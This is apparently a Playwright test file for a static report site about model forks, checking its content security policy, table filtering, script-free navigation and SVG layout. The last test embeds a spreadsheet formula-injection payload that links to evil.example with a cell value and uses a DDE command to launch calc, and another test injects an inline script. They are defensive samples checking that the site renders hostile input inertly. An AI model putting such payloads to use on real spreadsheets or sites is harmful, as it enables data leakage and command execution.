"""The site in a real browser, from file://: no complaint, no sideways scrolling, nothing executed."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from reports.build import build_site
from reports.svg import write_svg
from tests.reports import sample_diffs, samples
from tests.reports.chromium import PATIENCE, overflow, quiet_page

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

pytestmark = pytest.mark.slow

RELEASE_PAGE = "releases/demo/smollm2-135m-guarded/index.html"


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    """A narrow dark page that must not complain."""
    with quiet_page(browser, viewport={"width": 360, "height": 800}, color_scheme="dark") as page:
        yield page


def test_the_policy_is_in_force(browser: Browser, site: Path):
    """An inline script that got into a page would not run."""
    context = browser.new_context()
    page = context.new_page()
    page.goto((site / "index.html").as_uri(), timeout=PATIENCE)
    blocked = page.evaluate(
        """async () => {
            const seen = new Promise((done) =>
                addEventListener("securitypolicyviolation", (event) => done(event.violatedDirective)));
            const script = document.createElement("script");
            script.textContent = "window.pwned = 1";
            document.body.append(script);
            return [await seen, window.pwned ?? null];
        }"""
    )
    assert blocked == ["script-src-elem", None]
    context.close()


def test_search_filter_and_order(page: Page, site: Path):
    """The table narrows by words and verdict, and sorts by name or date."""
    page.goto((site / RELEASE_PAGE).as_uri())
    rows = page.locator("#fork-table tbody tr:visible")
    assert rows.count() == len(samples.FORKS)
    page.locator("input[data-search]").fill("POET lora")
    assert rows.count() == 2
    assert page.locator("output[data-count]").inner_text() == "2 of 17 forks"
    page.locator("input[data-search]").fill("")
    page.locator("select[data-verdict]").select_option("safety-removed")
    assert rows.count() == 3
    page.locator("select[data-order]").select_option("scanned")
    assert rows.first.get_attribute("data-name") == "abl/smollm2-directional"
    page.locator("select[data-order]").select_option("name")
    page.locator("select[data-verdict]").select_option("")
    names = [row.get_attribute("data-name") for row in rows.all()]
    assert names == sorted(names)


def test_everything_is_reached_without_script(browser: Browser, lived_site: Path):
    """By links from the first page to a release, page two of its table, a fork, a week and a method."""
    with quiet_page(browser, java_script_enabled=False) as page:
        page.goto((lived_site / "index.html").as_uri())
        assert not page.locator("#search").is_visible()
        page.get_by_role("link", name=samples.RELEASE).first.click()
        assert page.locator("#fork-table tbody tr").count() == 8
        assert not page.locator(".tools").is_visible()
        page.get_by_role("link", name="Next").click()
        assert "page 2 of 3" in page.locator("h1").inner_text()
        page.get_by_role("link", name=samples.TAKEN, exact=True).click()
        assert page.locator("h1").inner_text() == samples.TAKEN
        page.get_by_role("navigation", name="Site").get_by_role("link", name="Changes").click()
        page.get_by_role("link", name=samples.WEEK, exact=True).click()
        assert page.locator("h1").inner_text() == f"Week {samples.WEEK}"
        page.get_by_role("navigation", name="Site").get_by_role("link", name="Methodology").click()
        page.get_by_role("link", name="How weights are compared").first.click()
        assert page.locator("h1").inner_text() == "How weights are compared"


def test_hostile_pages_do_nothing(page: Page, hostile_site: Path):
    """Every page of the poisoned site loads quietly, fits a phone (and a desk), and runs none of it."""
    ours = ("methodology/", "findings/", "how-to-read")
    paths = {path.relative_to(hostile_site).as_posix() for path in hostile_site.rglob("*.html")}
    for name in sorted(path for path in paths if not path.startswith(ours)):
        page.set_viewport_size({"width": 320, "height": 800})
        page.goto((hostile_site / name).as_uri())
        assert page.evaluate("window.pwned ?? null") is None
        assert overflow(page) <= 0, name
        if not name.startswith("forks/"):
            page.set_viewport_size({"width": 1440, "height": 800})
            assert overflow(page) <= 0, name


@pytest.mark.parametrize("layers", [2, 126])
def test_diff_picture_fits(page: Page, tmp_path: Path, layers: int) -> None:
    """The SVG of a comparison opens by itself, and no text of it leaves the picture."""
    write_svg(sample_diffs.llama(layers, experts=2), tmp_path / "diff.svg")

    page.goto((tmp_path / "diff.svg").as_uri())

    outside = """() => [...document.querySelectorAll("text")]
        .filter(text => { const box = text.getBBox(); return box.x < 0 || box.x + box.width > 960; })
        .map(text => text.textContent)"""
    assert page.evaluate(outside) == []


def test_a_formula_is_text(page: Page, tmp_path: Path):
    """What a spreadsheet would run stands in a page as it was written, and leads nowhere."""
    formula = '=HYPERLINK("https://evil.example/"&A1,"x") @SUM(1+1)*cmd|\' /C calc\'!A0'
    view = samples.view()
    (release,) = view.releases
    first, *others = release.scans
    cell = replace(first, verdict=replace(first.verdict, summary=formula))
    build_site(replace(view, releases=(replace(release, scans=(cell, *others)),)), tmp_path / "out")

    page.goto((tmp_path / "out" / "forks" / first.repo / "index.html").as_uri())

    assert page.locator(".headline-text").inner_text() == formula
    assert page.locator("[href*=evil]").count() == 0
